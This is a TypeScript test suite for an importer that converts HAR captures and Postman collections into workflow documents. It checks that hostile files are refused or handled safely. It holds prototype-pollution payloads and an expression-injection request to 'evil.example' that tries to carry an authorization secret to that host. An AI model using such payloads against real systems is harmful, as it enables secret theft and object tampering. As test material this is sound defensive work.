import { describe, expect, test } from "vitest";
import { parseDocument } from "@waymark/journeys/document/parse.ts";
import { checkDocument } from "@waymark/journeys/rules/check-document.ts";
import { importHar } from "./har.ts";
import type { ImportResult } from "./imported.ts";
import { importPostman } from "./postman.ts";

const SECRET = "canary-0f9e8d7c6b5a4321";
const JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJjYW5hcnkifQ.c2lnbmF0dXJlLWNhbmFyeQ";

function har(...entries: object[]): ImportResult {
  return importHar(JSON.stringify({ log: { entries } }), { title: "T" });
}

function call(url: string, more: object = {}, response: unknown = {}): object {
  return {
    request: { method: "POST", url, headers: [], ...more },
    response: { status: 200, content: { mimeType: "application/json", text: JSON.stringify(response) } },
  };
}

function json(text: string): object {
  return { postData: { mimeType: "application/json", text } };
}

function postman(item: unknown, more: object = {}): ImportResult {
  return importPostman(JSON.stringify({ info: { name: "C" }, item, ...more }));
}

function request(body: string, more: object = {}): object {
  return {
    name: "r",
    request: { method: "POST", url: "https://api.example/x", body: { mode: "raw", raw: body }, ...more },
  };
}

/** The text of a journey that must be one. */
function made(result: ImportResult): string {
  if (!result.ok) throw new Error(result.message);
  expect(checkDocument(parseDocument(result.text, { file: "t" }))).toEqual([]);
  return result.text;
}

function steps(result: ImportResult) {
  return parseDocument(made(result), { file: "t" }).model?.workflows[0]?.steps ?? [];
}

const deep = "[".repeat(200_000) + "]".repeat(200_000);

describe("a hostile file becomes a journey that lints, or is refused, in bounded time", () => {
  test.each<[string, () => ImportResult]>([
    ["a body nested 200,000 deep", () => har(call("https://a.example/", json(deep)))],
    [
      "a response nested 200,000 deep",
      () =>
        importHar(
          `{"log":{"entries":[{"request":{"method":"GET","url":"https://a.example/"},"response":{"status":200,"content":{"mimeType":"application/json","text":${JSON.stringify(deep)}}}}]}}`,
          { title: "T" },
        ),
    ],
    ["a collection's body nested 200,000 deep", () => postman([request(deep)])],
    [
      "folders nested 5,000 deep",
      () => importPostman(`{"info":{"name":"C"},"item":${'[{"item":'.repeat(5_000)}[]${"}]".repeat(5_000)}}`),
    ],
    ["a variable of a million spaces", () => postman([request(`{{${" ".repeat(1_000_000)}`)])],
    ["a million open braces", () => postman([request("{".repeat(1_000_000))])],
    ["a million dollars in braces", () => postman([request("{$".repeat(500_000))])],
    [
      "a million half tokens",
      () =>
        har(
          call("https://a.example/", {
            postData: { mimeType: "text/plain", text: "eyJ-a.".repeat(200_000) },
          }),
        ),
    ],
    [
      "ten thousand secrets",
      () =>
        har(
          ...Array.from({ length: 900 }, (_, n) =>
            call(
              "https://a.example/",
              json(
                JSON.stringify(
                  Object.fromEntries(
                    Array.from({ length: 12 }, (__, m) => [`token${m}`, `${SECRET}-${n}-${m}`]),
                  ),
                ),
              ),
            ),
          ),
        ),
    ],
    [
      "a hundred thousand calls",
      () => har(...Array.from({ length: 100_000 }, () => call("https://a.example/x"))),
    ],
    [
      "more text than a journey holds",
      () =>
        har(
          ...Array.from({ length: 20 }, () =>
            call("https://a.example/x", json(JSON.stringify({ a: "x y ".repeat(100_000) }))),
          ),
        ),
    ],
    ["half a surrogate pair", () => har(call("https://a.example/", json(String.raw`{"a":"\ud800"}`)))],
    [
      "control characters",
      () => har(call("https://a.example/", json(JSON.stringify({ a: "\u0000\u001b[2J\u0085" })))),
    ],
    [
      "a number beyond all precision",
      () => har(call("https://a.example/", json('{"n":12345678901234567890,"f":1e400}'))),
    ],
    [
      "odd types everywhere",
      () =>
        importHar(
          '{"log":{"entries":[1,null,[],{"request":[]},{"request":{"method":1,"url":{}}},{"request":{"method":"GET","url":"https://a.example","headers":{"a":1}}}]}}',
          { title: "T" },
        ),
    ],
  ])("%s", (_, make) => {
    const result = make();
    expect(result.ok ? made(result).length : result.message.length).toBeGreaterThan(0);
  });

  test("no key of a file reaches a prototype", () => {
    const body = '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}';
    const form = { postData: { mimeType: "application/x-www-form-urlencoded", text: "__proto__=1&a=2" } };
    const variable = [{ key: "__proto__", value: "x" }];
    for (const result of [
      har(call("https://a.example/?__proto__=1", json(body)), call("https://a.example/", form)),
      postman([request(body), request('{"a":"{{__proto__}}"}')], { variable }),
      postman([
        request("", { body: { mode: "urlencoded", urlencoded: [{ key: "__proto__", value: "1" }] } }),
      ]),
    ]) {
      made(result);
      expect("polluted" in {}).toBe(false);
    }
  });
});

describe("a file can't name what belongs to whoever imports it", () => {
  test("texts that look like expressions are sent as they are", () => {
    const [, second] = steps(
      har(
        call("https://bank.example/", { headers: [{ name: "Authorization", value: `Bearer ${SECRET}` }] }),
        call("https://evil.example/?x={$inputs.authorization}&y=$inputs.authorization", {
          headers: [{ name: "X-Y", value: "$steps.post-bank-example.outputs.a" }],
          ...json(
            '{"a":"$inputs.authorization","b":"and {$inputs.authorization}","c":{"context":"$inputs.authorization","selector":"","type":"jsonpointer"}}',
          ),
        }),
      ),
    );
    expect(JSON.stringify(second)).not.toMatch(/\$(?:inputs|steps|response|request)\b/);
    expect(second?.requestBody?.payload).toEqual({
      a: "$vars.literal2",
      b: "$vars.literal4",
      c: "$vars.literal5",
    });
  });

  test("nor does a collection", () => {
    const [step] = steps(
      postman([request('{"a":"$inputs.token","b":"{$inputs.token} {{x}}"}')], {
        variable: [{ key: "x", value: "y" }],
      }),
    );
    expect(step?.requestBody?.payload).toEqual({ a: "$vars.literal1", b: "{ $inputs.token} {$inputs.x}" });
  });
});

describe("secrets never land in the journey", () => {
  test.each<[string, () => ImportResult]>([
    [
      "in a header that is called otherwise",
      () => har(call("https://a.example/", { headers: [{ name: "X-Thing", value: JWT }] })),
    ],
    ["in the path", () => har(call(`https://a.example/hooks/${JWT}/send`))],
    [
      "in a text body",
      () => har(call("https://a.example/", { postData: { mimeType: "text/xml", text: `<t>${JWT}</t>` } })),
    ],
    [
      "once known, wherever it stands",
      () =>
        har(
          call("https://a.example/", {
            headers: [{ name: "Authorization", value: `Token ${JWT}` }],
            ...json(JSON.stringify({ note: `my ${JWT}.` })),
          }),
        ),
    ],
    [
      "in fields that are called like fields of a step",
      () =>
        har(
          call(
            "https://a.example/",
            json(
              JSON.stringify({ condition: JWT, outputs: { in: JWT }, description: JWT, name: `a ${JWT}` }),
            ),
          ),
        ),
    ],
    ["before the at sign", () => har(call(`https://me:${JWT}@a.example/`))],
    ["in a collection's address", () => postman([request("{}", { url: `https://me:${JWT}@a.example/` })])],
    [
      "as a variable's value",
      () => postman([request('{"a":"{{thing}}"}')], { variable: [{ key: "thing", value: JWT }] }),
    ],
    [
      "in a description",
      () =>
        postman([
          {
            ...request("{}"),
            request: { method: "GET", url: "https://a.example", description: `try ${JWT}` },
          },
        ]),
    ],
    [
      "in a script",
      () =>
        postman([
          {
            ...request("{}"),
            event: [{ listen: "test", script: { exec: [`pm.environment.set("a", "${JWT}");`] } }],
          },
        ]),
    ],
    ["in a name", () => postman([{ ...request("{}"), name: `call ${JWT}` }])],
    [
      "as a password of basic authentication",
      () => postman([request("{}", { auth: { type: "basic", basic: [{ key: "password", value: JWT }] } })]),
    ],
    [
      "as a text that looks like an expression",
      () => har(call("https://a.example/", json(JSON.stringify({ a: `$inputs.x ${JWT}` })))),
    ],
  ])("%s", (_, make) => {
    const result = make();
    const text = `${made(result)} ${result.ok ? result.notes.join(" ") : ""}`;
    expect(text).not.toContain(JWT);
    expect(text.toLowerCase()).not.toContain(JWT.slice(0, 20).toLowerCase());
  });

  test("a token that a login gave is taken from the login's answer, and no secret is asked for", () => {
    const [login, use] = steps(
      har(
        call("https://a.example/login", {}, { session: { access_token: JWT } }),
        call("https://a.example/use", { headers: [{ name: "Authorization", value: `Bearer ${JWT}` }] }),
      ),
    );
    expect(login?.outputs).toEqual({ "secret-access-token": "$response.body#/session/access_token" });
    expect(use?.parameters).toEqual([
      {
        name: "Authorization",
        in: "header",
        value: "Bearer {$steps.post-login.outputs.secret-access-token}",
      },
    ]);
  });
});

test("scripts of a collection and its folders are told, and a URL in parts is put together", () => {
  const event = [{ listen: "prerequest", script: { exec: ["setUp();"] } }];
  const url = {
    protocol: "https",
    host: ["api", "example", "com"],
    port: "8443",
    path: ["v1", ":id"],
    query: [{ key: "a", value: "1" }],
  };
  const result = postman([{ name: "F", event, item: [{ name: "g", request: { method: "GET", url } }] }], {
    event,
  });
  const [step] = steps(result);
  expect(step?.["x-operation"]?.url).toBe("https://api.example.com:8443/v1/{$inputs.id}");
  expect(result.ok && result.notes).toEqual([
    "The collection has a script that runs with every request; it was left out.",
    "The folder F has a script that runs with every request; it was left out.",
  ]);
});
